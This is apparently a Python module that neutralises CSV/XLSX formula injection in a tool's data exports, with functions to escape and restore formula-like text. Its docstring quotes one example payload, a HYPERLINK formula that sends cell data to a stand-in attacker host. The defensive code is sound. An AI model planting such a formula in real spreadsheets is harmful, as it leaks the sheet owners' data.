"""Writing cells that a spreadsheet program opens: text stays text, never a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab
or carriage return, what follows) as a formula: a person named
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would send the sheet's data away when the
export is opened ("CSV / formula injection"). This module is the one home of that rule,
used by every spreadsheet gputeam writes (the data export's CSV and XLSX, the plan's XLSX):

* XLSX: :func:`xlsx_put` writes a string as a string cell (the value unchanged, so an
  export imports back as it was), whatever it begins with.
* CSV has no cell types: :func:`csv_cell` puts an apostrophe before such text (``'=1+2``),
  which spreadsheets show as text; :func:`unneutralise` takes it off again when gputeam
  reads the file back, so an export still imports back unchanged.

Numbers are not text and are never changed (``-3`` stays a number).
"""

from __future__ import annotations

import re
from typing import Any

#: what makes a spreadsheet read a text cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: characters XLSX (XML 1.0) cannot hold; written as U+FFFD
XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text beginning like a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unneutralise(text: str) -> str:
    """Undo :func:`csv_cell` on text read from a file."""
    if len(text) > 1 and text[0] == "'" and text[1] in FORMULA_STARTS:
        return text[1:]
    return text


def xlsx_put(ws: Any, row: int, column: int, value: Any) -> Any:
    """Write ``value`` into cell (row, column) of an openpyxl worksheet and return the cell:
    text always as a text cell, never a formula; control characters XLSX cannot hold are
    shown as U+FFFD."""
    if isinstance(value, str):
        value = XLSX_ILLEGAL.sub("\ufffd", value)
    cell = ws.cell(row=row, column=column, value=value)
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell
